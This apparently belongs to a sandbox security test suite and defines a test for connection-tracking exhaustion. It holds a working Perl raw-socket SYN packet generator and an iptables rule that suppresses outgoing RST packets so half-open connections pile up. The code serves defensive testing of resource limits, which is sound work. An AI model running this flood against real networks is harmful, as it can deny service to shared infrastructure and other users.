/** Class 20: entries of connection tracking, which are charged to nobody, in the network in front of the sandbox. */
import { DEFAULT_SETTINGS } from "#sandbox";
import type { Attack } from "../attack.ts";
import { perl } from "../perl.ts";
import { openRouter } from "../weakenings/network.ts";

const allowed = DEFAULT_SETTINGS.limits.connections;
const wanted = allowed * 2;
/** What the sandbox and the platform have open anyway. */
const others = 200;

/** First packets of connections to the one place that is open, each out of a port of its own. */
const caller = String.raw`
my ($from, $to, $port, $calls) = @ARGV;
my @bytes = map { pack("C4", split /\./) } ($from, $to);
socket(my $raw, 2, 3, 6) or die "no raw socket: $!\n";
my $target = pack("S n a4 x8", 2, 0, $bytes[1]);
my $sum = sub { my $all = 0; $all += $_ for unpack("n*", $_[0]); $all = ($all >> 16) + ($all & 0xffff) while $all >> 16; ~$all & 0xffff };
for my $number (1 .. $calls) {
  my $syn = pack("n n N N C C n n n", 10000 + $number, $port, $number, 0, 0x50, 2, 1024, 0, 0);
  substr($syn, 16, 2) = pack("n", $sum->($bytes[0] . $bytes[1] . pack("n n", 6, length $syn) . $syn));
  send($raw, $syn, 0, $target);
  # Slow enough for every packet to be looked at.
  select(undef, undef, undef, 0.001) unless $number % 50;
}`;

const attacks: readonly Attack[] = [
  {
    nr: "20a",
    name: "fill the connection tracking in front",
    expected: `at most ${allowed} entries of ${wanted} calls (and ${others} of others)`,
    weakened: openRouter,
    async attempt({ attacker }) {
      const [registry = "", port = ""] = (await attacker.outside("echo $REGISTRY_IP $REGISTRY_PORT")).stdout.split(" ");
      const own = (await attacker.root('ip -4 -o address show dev eth0 | awk \'{ sub("/.*", "", $4); print $4 }\''))
        .stdout;
      // Otherwise the attacker's own kernel takes back every call at once: it knows nothing of it.
      const silent = "iptables -I OUTPUT -p tcp --tcp-flags RST RST -j DROP";
      const { exitCode, stderr } = await attacker.root(`${silent}; ${perl(caller, own, registry, port, wanted)}`);
      const entries = Number((await attacker.outside("cat /proc/sys/net/netfilter/nf_conntrack_count")).stdout);
      await attacker.root(silent.replace("-I", "-D"));
      if (exitCode !== 0) throw new Error(stderr);
      return { succeeded: entries > allowed + others, observed: `${entries} entries` };
    },
  },
];
export default attacks;
